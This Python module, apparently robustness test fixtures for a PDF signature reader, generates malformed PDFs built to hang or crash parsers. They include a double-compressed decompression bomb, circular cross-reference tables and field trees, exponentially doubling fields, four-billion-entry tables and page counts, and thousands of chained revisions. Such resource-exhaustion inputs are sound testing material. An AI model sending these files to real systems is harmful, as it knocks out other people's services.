"""PDF files made to hang, to swell or to crash whoever reads them."""

import zlib


def pdf(*objects: bytes) -> bytes:
    """A file of ``objects`` (numbered from 1) with a right table of where they are."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    begin = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(places) + 1)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % begin)


def stream(about: bytes, content: bytes, *, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    filters = b"/FlateDecode" * times
    return b"<<%s/Filter[%s]/Length %d>>stream\n%s\nendstream" % (about, filters, len(content), content)


CATALOG = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]/SigFlags 3>>>>"
PAGES = b"<</Type/Pages/Kids[]/Count 0>>"


def nested(depth: int = 200_000) -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R/AcroForm " + b"[" * depth + b"]" * depth + b">>", PAGES)


def tables_in_a_ring() -> bytes:
    made = pdf(CATALOG, PAGES, b"<</FT/Sig/T(a)>>")
    begin = int(made.rsplit(b"startxref\n", 1)[1].split()[0])
    return made.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % begin)


def fields_in_a_ring() -> bytes:
    return pdf(CATALOG, PAGES, b"<</T(a)/Kids[3 0 R 3 0 R]>>")


def fields_that_double(depth: int = 40) -> bytes:
    doubling = [b"<</T(a)/Kids[%d 0 R %d 0 R]>>" % (at + 1, at + 1) for at in range(3, 3 + depth)]
    return pdf(CATALOG, PAGES, *doubling, b"<</T(b)>>")


def bomb(size: int = 40 << 20) -> bytes:
    """The catalog lies in a stream that swells to dozens of megabytes, packed twice over."""
    swollen = stream(b"/Type/ObjStm/N 1/First 4", b"1 0 " + bytes(size), times=2)
    body = bytearray(b"%PDF-1.7\n")
    place = len(body)
    body += b"2 0 obj\n%s\nendobj\n" % swollen
    begin = len(body)
    rows = bytes(5) + bytes([2, 0, 0, 2, 0]) + bytes([1]) + place.to_bytes(3, "big") + bytes(1)
    body += b"3 0 obj\n%s\nendobj\n" % stream(b"/Type/XRef/W[1 3 1]/Size 3/Root 1 0 R", rows)
    return bytes(body + b"startxref\n%d\n%%%%EOF\n" % begin)


def table_of_billions() -> bytes:
    body = bytearray(b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n")
    begin = len(body)
    about = b"/Type/XRef/W[0 0 0]/Size 4000000000/Index[0 4000000000]/Root 1 0 R"
    body += b"2 0 obj\n%s\nendobj\n" % stream(about, b"")
    return bytes(body + b"startxref\n%d\n%%%%EOF\n" % begin)


def endless_numbers() -> bytes:
    number = b"9" * 2_000_000
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]/SigFlags %s>>>>" % number, PAGES, number
    )


def billions_of_pages() -> bytes:
    return pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 4000000000>>", b"<</FT/Sig/T(a)/V 4 0 R>>")


def many_signatures(contents: bytes, count: int = 150) -> bytes:
    """As many fields, all of which point at one and the same signature."""
    held = (
        b"<</Type/Sig/SubFilter/ETSI.CAdES.detached/ByteRange[0 1 2 3]/Contents<%s>>>"
        % contents.hex().encode()
    )
    fields = b"".join(b"%d 0 R " % number for number in range(4, 4 + count))
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[%s]/SigFlags 3>>>>" % fields
    each = (b"<</FT/Sig/T(s%d)/V 3 0 R>>" % number for number in range(count))
    return pdf(catalog, PAGES, held, *each)


def many_revisions(count: int = 3000) -> bytes:
    made = bytearray(pdf(CATALOG, PAGES, b"<</FT/Sig/T(a)>>"))
    before = int(made.rsplit(b"startxref\n", 1)[1].split()[0])
    for _ in range(count):
        begin = len(made)
        made += b"xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            before,
            begin,
        )
        before = begin
    return bytes(made)
